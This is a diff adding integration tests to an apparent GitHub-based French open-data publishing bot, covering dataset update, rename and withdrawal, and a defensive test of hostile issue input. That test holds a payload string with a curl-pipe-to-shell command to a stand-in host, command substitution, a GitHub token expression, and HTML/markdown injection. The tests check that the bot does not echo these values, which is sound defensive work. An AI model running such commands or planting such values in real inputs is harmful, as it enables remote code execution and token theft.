@@ -82,3 +82,82 @@ test('a new producer sends data, is refused in French, mends them, is accepted, 
   expect(openPulls()).toEqual([]);
   expect([...(await repository.git.branches()).keys()]).toEqual(['main']);
 });
+
+test('what is published is updated by its new file alone, renamed, and withdrawn', { timeout: 600_000 }, async () => {
+  const first = await send('mairie', deposit());
+  await answers(first);
+  const merge = async (): Promise<void> => {
+    const open = pulls().find(({ state }) => state === 'open');
+    const params = { repository: 'mappe-geo/mappe', pull_number: open?.number ?? 0 };
+    await github.as('mappe-geo', 'pulls/merge', { ...params, body: { merge_method: 'squash' } });
+    await github.settled();
+  };
+  await merge();
+
+  const update = await send('mairie', { 'vion/mats/mats.geojson': collection(features.slice(0, 2)) });
+  expect((await answers(update))[0]).toMatch(/vion\/mats · mis à jour[^]*2 objets/);
+  expect(openPulls()).toEqual(['Mise à jour : Mâts d’éoliennes (Commune de Vion)']);
+  const changes = async (issue: number): Promise<string[]> =>
+    (await repository.git.changedFiles('refs/heads/main', `refs/heads/depot/${issue}`)).map(({ path, status }) => `${status} ${path}`);
+  expect(await changes(update)).toEqual(['modified datasets/vion/mats/mats.geojson']);
+  await merge();
+
+  const rename = await send('mairie', { 'vion/eoliennes/dataset.yaml': manifest('identifier: vion/mats\n') });
+  expect((await answers(rename))[0]).toMatch(/vion\/eoliennes · renommé/);
+  expect((await changes(rename)).sort()).toEqual([
+    'added datasets/vion/eoliennes/dataset.yaml',
+    'added datasets/vion/eoliennes/mats.geojson',
+    'removed datasets/vion/mats/dataset.yaml',
+    'removed datasets/vion/mats/mats.geojson',
+  ]);
+  await merge();
+
+  const fields = { jeu: 'https://mappe.exemple.fr/donnees/vion/eoliennes/', motif: 'Elles sont dans le jeu du département.' };
+  const withdrawal = await github.openByForm(repository, 'retirer', { by: 'mairie', title: 'Retrait', fields });
+  expect((await answers(withdrawal))[0]).toMatch(/## Ce retrait est prêt à être relu/);
+  expect(openPulls()).toEqual(['Retrait : Mâts d’éoliennes (vion)']);
+  expect(await changes(withdrawal)).toEqual([
+    'removed datasets/vion/eoliennes/dataset.yaml',
+    'removed datasets/vion/eoliennes/mats.geojson',
+  ]);
+  await merge();
+  expect(await repository.git.listTree('refs/heads/main:datasets/vion', true)).toMatchObject([{ path: 'producer.yaml' }]);
+  // Gone, it cannot go again.
+  const again = await github.openByForm(repository, 'retirer', { by: 'mairie', title: 'Retrait', fields });
+  expect((await answers(again))[0]).toMatch(/Il n’y a pas de jeu de données « vion\/eoliennes » au catalogue/);
+});
+
+test(
+  'texts of an issue are never program, mention or markup of ours, and what is no deposit is answered or left alone',
+  { timeout: 600_000 },
+  async () => {
+    const title = '"; curl http://exemple.fr | sh #$(id) `id` ${{ github.token }} @mappe-geo <script>';
+    const hostile = {
+      by: 'inconnu',
+      title,
+      fields: { donnees: title, zip: `${title}\nhttps://exemple.fr/user-attachments/files/1/a.zip` },
+    };
+    const number = await github.openByForm(repository, 'publier', hostile);
+    const [answer = '', ...others] = await answers(number);
+    expect([others, answer]).toEqual([[], expect.stringMatching(/Il manque le fichier : glissez dans un commentaire le zip/)]);
+    expect(answer).not.toMatch(/curl|@mappe-geo|<script/);
+    // A title of a manifest reaches a request as text.
+    const named = await send(
+      'inconnu',
+      deposit({ 'vion/mats/dataset.yaml': manifest().replace('Mâts d’éoliennes', "'Mâts @mappe-geo <img src=x> [x](http://exemple.fr)'") }),
+    );
+    await answers(named);
+    const pull = pulls().find(({ state }) => state === 'open');
+    expect(pull?.body).not.toMatch(/@mappe-geo|<img|\]\(http:\/\/exemple/);
+    const plainIssue = await github.as('inconnu', 'issues/create', {
+      repository: 'mappe-geo/mappe',
+      body: { title: 'Bonjour', body: zipOf(deposit()), labels: ['depot'] },
+    });
+    await github.settled();
+    // The label of a form is nobody's to give.
+    expect(repository.issues.find((each) => each.number === (plainIssue as { number: number }).number)).toMatchObject({
+      labels: [],
+      comments: [],
+    });
+  },
+);
